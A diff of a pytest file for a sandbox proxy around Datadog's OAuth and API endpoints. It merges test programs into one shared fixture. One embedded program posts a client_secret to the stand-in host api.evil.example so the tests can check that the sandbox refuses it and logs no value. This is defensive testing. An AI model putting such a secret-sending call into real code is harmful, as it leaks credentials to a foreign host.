@@ -32,16 +32,13 @@ if TYPE_CHECKING:
 
 KIT = [sys.executable, "-m", "ddoauth_kit", "sandbox"]
 CALLS = """
-import httpx
+import httpx, sys
 form = {"grant_type": "authorization_code", "code": "made-up", "client_id": "made-up"}
 told = httpx.post("https://api.datadoghq.com/api/v2/oauth2/token", data=form)
 valid = httpx.get("https://api.datadoghq.eu/api/v1/validate", headers={"DD-API-KEY": "made-up"})
-print(told.status_code, valid.status_code)
-"""
-LEAKS = """
-import httpx, sys
 form = {"client_secret": sys.argv[1], "code": "made-up"}
-print(httpx.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form).status_code)
+leak = httpx.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form)
+print(told.status_code, valid.status_code, leak.status_code)
 """
 # What a client does wrong, each in a connection of its own, at the proxy that it finds set.
 MISTAKES = """
@@ -102,25 +99,33 @@ def _python(code: str, *arguments: str) -> list[str]:
     return ["--", sys.executable, "-c", code, *arguments]
 
 
-def test_an_unchanged_program_arrives_in_the_sandbox() -> None:
+@pytest.fixture(scope="module")
+def called() -> subprocess.CompletedProcess[str]:
+    """Run a program that knows only Datadog's addresses, and sends a secret elsewhere, too."""
+    return _sandbox(*_python(CALLS, SECRET))
+
+
+def test_an_unchanged_program_arrives_in_the_sandbox(
+    called: subprocess.CompletedProcess[str],
+) -> None:
     """Datadog's addresses stay written in; each call is a line on stderr, with the reason."""
-    done = _sandbox(*_python(CALLS))
-    assert (done.returncode, done.stdout) == (0, "400 403\n"), done.stderr
-    lines = done.stderr.splitlines()
+    assert (called.returncode, called.stdout) == (0, "400 403 403\n"), called.stderr
+    lines = called.stderr.splitlines()
     refused = "POST api.datadoghq.com/api/v2/oauth2/token 400"
     assert f"{refused} This site does not know the client_id." in lines
     reason = "The API key is wrong, revoked, or from another site."
     assert f"GET api.datadoghq.eu/api/v1/validate 403 {reason}" in lines
 
 
-def test_a_secret_does_not_leave_for_a_foreign_host() -> None:
+def test_a_secret_does_not_leave_for_a_foreign_host(
+    called: subprocess.CompletedProcess[str],
+) -> None:
     """The answer is 403, and the line names the host and the fields, and no value."""
-    done = _sandbox(*_python(LEAKS, SECRET))
-    assert (done.returncode, done.stdout) == (0, "403\n"), done.stderr
-    line = next(line for line in done.stderr.splitlines() if line.startswith("POST"))
+    assert called.stdout.endswith(" 403\n")
+    (line,) = (line for line in called.stderr.splitlines() if "evil" in line)
     assert line.startswith("POST api.evil.example/token 403 refused: ")
     assert line.endswith("The client had sent: client_secret, code in the body; hint in the URL.")
-    assert SECRET not in done.stderr
+    assert SECRET not in called.stderr
 
 
 def test_what_a_client_does_wrong_is_one_line_each() -> None:
@@ -136,16 +141,15 @@ def test_what_a_client_does_wrong_is_one_line_each() -> None:
     assert done.stderr.count("note: A proxy is already configured.") == 1
 
 
-@pytest.mark.parametrize("code", [0, 7])
-def test_the_exit_code_is_the_commands(code: int) -> None:
+def test_the_exit_code_is_the_commands() -> None:
     """The shell sees the command's exit code, and stdout contains only the command's bytes."""
-    done = _sandbox(*_python(f"import sys; print('only this', end=''); sys.exit({code})"))
-    assert (done.returncode, done.stdout) == (code, "only this")
+    done = _sandbox(*_python("import sys; print('only this', end=''); sys.exit(7)"))
+    assert (done.returncode, done.stdout) == (7, "only this")
 
 
-def test_the_first_lines_say_what_there_is() -> None:
+def test_the_first_lines_say_what_there_is(called: subprocess.CompletedProcess[str]) -> None:
     """Before the command's calls: who bypasses the front, addresses, client, and how to stop."""
-    said = _sandbox(*_python("")).stderr
+    said = called.stderr
     assert said.startswith("note: Clients that ignore these variables")
     names = [line.split("  ")[0] for line in said.splitlines()[1:]]
     assert names[:4] == ["sandbox", "front", "CA", "client"]
@@ -297,22 +301,8 @@ def test_in_a_pipe_it_names_the_control_key_file() -> None:
     assert not file.parent.exists()
 
 
-def test_in_a_pipe_it_says_what_to_type() -> None:
-    """A person who sent the output elsewhere reads on stderr the lines that a login needs."""
-    with _started() as process:
-        assert process.stdout is not None
-        assert process.stderr is not None
-        client = json.loads(process.stdout.readline())["client"]
-        lines = [process.stderr.readline().strip() for _ in range(7)]
-        process.send_signal(signal.SIGINT)
-        assert process.wait(timeout=20) == 0
-    assert f"export DDOAUTH_CLIENT_ID={client['client_id']}" in lines
-    own = lines[-1].removesuffix(" login")
-    assert which(own), "a shell finds it as it stands there"
-
-
-def test_in_a_pipe_it_names_the_front() -> None:
-    """A program that reads the line reaches Datadog's names with its proxy and CA."""
+def test_in_a_pipe_it_names_the_front_and_what_to_type() -> None:
+    """A program reaches Datadog's names with proxy and CA; a person reads what a login needs."""
     with _started() as process:
         assert process.stdout is not None
         said = json.loads(process.stdout.readline())
@@ -328,6 +318,10 @@ def test_in_a_pipe_it_names_the_front() -> None:
     assert "The client had sent: client_secret in the body." in lines
     assert SECRET not in lines
     assert not ca_file.parent.exists()
+    to_type = lines.splitlines()[:7]
+    assert f"export DDOAUTH_CLIENT_ID={said['client']['client_id']}" in to_type
+    own = to_type[-1].strip().removesuffix(" login")
+    assert which(own), "a shell finds it as it stands there"
 
 
 def test_without_trustme_the_line_names_no_front(
